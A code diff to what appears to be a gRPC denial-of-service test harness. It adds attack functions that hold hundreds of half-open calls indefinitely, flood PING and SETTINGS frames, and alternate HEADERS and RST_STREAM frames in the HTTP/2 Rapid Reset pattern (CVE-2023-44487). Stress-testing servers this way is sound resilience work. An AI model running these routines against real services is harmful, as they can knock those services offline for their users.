@@ -460,13 +460,20 @@ def halves_of_messages(target: Target) -> str:
     return "half"
 
 
-def _half_open(target: Target, connections: int, calls: int, path: str = _PREDICT) -> str:
+def _open_halves(
+    target: Target, connections: int, calls: int, path: str = _PREDICT
+) -> list[Connection]:
     opened = [Connection(target.address) for _ in range(connections)]
     for each in opened:
         for _ in range(calls):
             with suppress(OSError):
                 each.begin(path)
     time.sleep(3)
+    return opened
+
+
+def _half_open(target: Target, connections: int, calls: int, path: str = _PREDICT) -> str:
+    opened = _open_halves(target, connections, calls, path)
     for each in opened:
         each.close()
     return "no message"
@@ -482,6 +489,15 @@ def calls_without_a_message_on_many_connections(target: Target) -> str:
     return _half_open(target, 100, 100)
 
 
+_KEPT: list[Connection] = []
+
+
+@attack("grpc", threads=1)
+def more_and_more_calls_without_a_message(target: Target) -> str:
+    _KEPT.extend(_open_halves(target, 100, 100))
+    return "no message"
+
+
 @attack("grpc", threads=1)
 def health_without_a_message(target: Target) -> str:
     return _half_open(target, 4, 100, "/grpc.health.v1.Health/Check")
@@ -495,6 +511,34 @@ def watches_without_a_message(target: Target) -> str:
 @attack("grpc", threads=1)
 def calls_of_no_method(target: Target) -> str:
     return _half_open(target, 10, 100, "/a.B/C")
+
+
+def _flood(target: Target, send: Callable[[Connection], None]) -> str:
+    """A second of frames, as fast as the server reads them."""
+    connection = Connection(target.address)
+    end = time.monotonic() + 1
+    try:
+        while connection.is_open and time.monotonic() < end:
+            send(connection)
+    finally:
+        connection.close()
+    return "flood"
+
+
+@attack("grpc")
+def calls_taken_back(target: Target) -> str:
+    """HEADERS and RST_STREAM in turn, CVE-2023-44487."""
+    return _flood(target, lambda each: each.begin_and_reset(_PREDICT, 50))
+
+
+@attack("grpc", threads=1)
+def a_flood_of_pings(target: Target) -> str:
+    return _flood(target, lambda each: each.ping(1000))
+
+
+@attack("grpc", threads=1)
+def a_flood_of_settings(target: Target) -> str:
+    return _flood(target, lambda each: each.settings(1000))
 
 
 @attack("grpc", threads=1)
